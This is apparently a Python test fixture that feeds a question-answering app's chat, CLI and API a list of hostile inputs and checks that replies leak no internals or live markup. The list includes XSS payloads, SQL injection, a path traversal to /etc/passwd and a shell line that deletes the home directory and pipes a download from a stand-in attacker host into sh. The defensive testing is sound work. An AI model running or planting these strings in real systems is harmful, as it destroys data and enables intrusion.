"""Hostile questions, and what every reply to one must (and must not) look like.

Shared by the chat-function and CLI tests (tests/test_hostile_questions.py) and the API tests
(tests/web/test_web_api.py). A reply is either a short clear message (the UI's starts with ⚠️) or a
normal answer; it never holds a traceback, an exception name, a server path or live markup. Test code only.
"""

from __future__ import annotations

import re

NORMAL = "Who is the White House chief of staff?"  # the seed article answers it: Susie Wiles

HOSTILE: dict[str, str] = {
    "empty": "",
    "whitespace": " \t\n \u3000 \r\n ",
    "one megabyte": "word " * 209_716,
    "a 100,000-character word": "x" * 100_000,
    "control characters": "Who\x01 is\x1b[31m the\x7f White House\x08 chief of staff?",
    "NUL": "Who is\x00 the White House chief of staff?\x00",
    "lone surrogates": "Who is \ud800the White House\udfff chief of staff?",
    "RTL override": "\u202eWho is the White House chief of staff?\u202c",
    "zero-width": "Who\u200b is\u200d the\ufeff White\u2060 House chief of staff?",
    "emoji": "🤔 Who is the White House chief of staff? 👩🏽‍💼",
    "right-to-left script": "من هو رئيس موظفي البيت الأبيض؟ מי ראש הסגל",
    "emoji only": "🤔🤔👩🏽‍💼",
    "only punctuation": "?!… ¿¡ ... ---",
    "HTML script": "<script>alert(document.cookie)</script>",
    "HTML image": "<img src=x onerror=alert(1)> Who is the chief of staff?",
    "Markdown image": "![pixel](http://attacker.invalid/track.png) Who is the chief of staff?",
    "Markdown link": "[click](javascript:alert(1)) Who is the chief of staff?",
    "SQL": "'; DROP TABLE documents; -- Who is the chief of staff? OR 1=1",
    "shell": "$(rm -rf ~) `reboot` && curl attacker.invalid | sh",
    "format strings": "{0.__class__} %s %n {{}} ${PATH} Who is the chief of staff?",
    "path traversal": "../../../../etc/passwd",
}

_LEAKS = re.compile(r"Traceback|File \"|\b[A-Z][A-Za-z]*(Error|Exception)\b|site-packages|\w\.py\b|/(work|tmp|root|"
                    r"home|usr|opt)/")
_MARKUP = re.compile(r"<\s*(script|img|iframe|svg|a)\b|\bon\w+\s*=|\]\(\s*(https?|javascript|data):", re.IGNORECASE)


def check_reply(reply: object, *, warning_prefix: str = "⚠️ ") -> str:
    """Assert `reply` is a clean message or answer; returns "message" or "answer". A `/chat` API reply (the
    `ask --json` object, or {"question", "error"}) is judged by its error message or its answer text."""
    if isinstance(reply, dict):
        if "error" in reply:
            check_message(reply["error"])
            return "message"
        reply = reply.get("answer")
    assert isinstance(reply, str), f"not text: {reply!r}"
    assert not _LEAKS.search(reply), f"internal detail leaked: {_LEAKS.search(reply)!r} in {reply[:300]!r}"
    assert not _MARKUP.search(reply), f"live markup: {_MARKUP.search(reply)!r} in {reply[:300]!r}"
    if reply.startswith(warning_prefix):
        assert len(reply) <= 300, f"a message should be short: {reply[:400]!r}"
        return "message"
    assert len(reply) < 20_000
    return "answer"


def check_message(text: str) -> None:
    """A plain-text error message (CLI, JSON): one short line, no internals."""
    assert "\n" not in text and 0 < len(text) <= 300, text
    assert not _LEAKS.search(text), text
